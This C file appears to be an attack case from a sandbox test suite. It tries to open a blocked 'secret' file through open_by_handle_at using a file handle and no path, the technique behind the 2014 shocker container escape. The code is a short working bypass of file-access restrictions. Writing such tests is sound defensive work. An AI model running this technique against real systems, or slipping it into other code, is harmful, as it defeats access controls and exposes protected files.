/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The blocked file by its handle, with no path at all.
 *
 * open_by_handle_at takes a number that stands for an inode, and any directory of the same file system. Containers were left
 * by it as early as 2014 (shocker.c).
 *
 * ---
 * tries: [A7]
 * rule: secret
 * lies_on: tmpfs
 * wins: secret
 */
#include "attack.h"

int main(void)
{
	static struct {
		struct file_handle head;
		char room[MAX_HANDLE_SZ];
	} handle = { .head.handle_bytes = MAX_HANDLE_SZ };
	int mount, directory = open(getenv("O"), O_RDONLY | O_DIRECTORY);

	must(directory, "open");
	must(name_to_handle_at(AT_FDCWD, V("secret"), &handle.head, &mount, 0), "name_to_handle_at");
	return show(open_by_handle_at(directory, &handle.head, O_RDONLY));
}
